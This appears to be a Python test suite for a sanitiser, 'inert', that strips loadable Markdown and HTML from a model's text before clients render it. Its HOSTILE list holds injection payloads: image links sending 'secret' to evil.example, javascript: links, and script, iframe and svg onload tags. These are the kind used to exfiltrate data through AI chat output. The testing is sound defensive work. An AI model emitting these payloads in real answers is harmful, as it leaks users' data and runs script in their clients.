"""No program that shows a model's text as Markdown or HTML loads or opens anything by it."""

import itertools

import lxml.html
import pytest
from hypothesis import given, strategies as st
from markdown_it import MarkdownIt

from retrieval.packing import InertStream, inert

LOADING = "//@src | //@href | //script | //iframe | //svg"


def shown(text):
    """What a client makes of an answer that renders Markdown and trusts its HTML."""
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda _url: True
    return lxml.html.fromstring(f"<div>{renderer.render(text)}</div>")


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[Click](javascript:alert(1))",
    "[a](<https://evil.example> 'title')",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "<IMG\nsrc=//evil.example>",
    "<svg onload=alert(1)></svg>",
    "<iframe src=//evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<script>alert(1)</script>",
    "` ![x](https://evil.example)",
    "text ``` ![x](https://evil.example)",
    "[![a](https://evil.example/a)](https://evil.example/b)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_loaded_or_opened(text):
    assert shown(text).xpath(LOADING)  # so that this test can fail
    assert shown(inert(text)).xpath(LOADING) == []


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See [the manual](https://a.example/m).", "See [the manual] (https://a.example/m)."),
        ("if a < b and c > d: x = a[0]", "if a < b and c > d: x = a[0]"),
        ("Two years [1][3], see 【2】。", "Two years [1][3], see 【2】。"),
        ("A <details> of the <abbr>", "A <details> of the <abbr>"),
        ("Vec<String> and x<y", "Vec<String> and x<y"),
        ("see https://a.example/m", "see https://a.example/m"),
    ],
)
def test_words_and_other_marks_stay(text, left):
    assert inert(text) == left


hostile_pieces = st.lists(
    st.one_of(
        st.sampled_from([*HOSTILE, "![", "](", "]:", "<img ", "</a>", "<ht", "tp:", "<a", "b", "`", "\n"]),
        st.text(alphabet="<>[]()!:/aimgt \n`", max_size=8),
    ),
    max_size=8,
).map("".join)


@given(hostile_pieces)
def test_no_mixture_of_them_comes_through(text):
    found = shown(inert(text)).xpath("//img | //a[@href] | //script | //iframe | //svg")
    assert found == []


@given(hostile_pieces, st.data())
def test_a_text_in_any_pieces_is_treated_as_the_whole(text, data):
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)))))
    stream = InertStream()
    pieces = [stream.feed(text[start:end]) for start, end in itertools.pairwise([0, *cuts, len(text)])]

    assert "".join(pieces) + stream.finish() == inert(text)
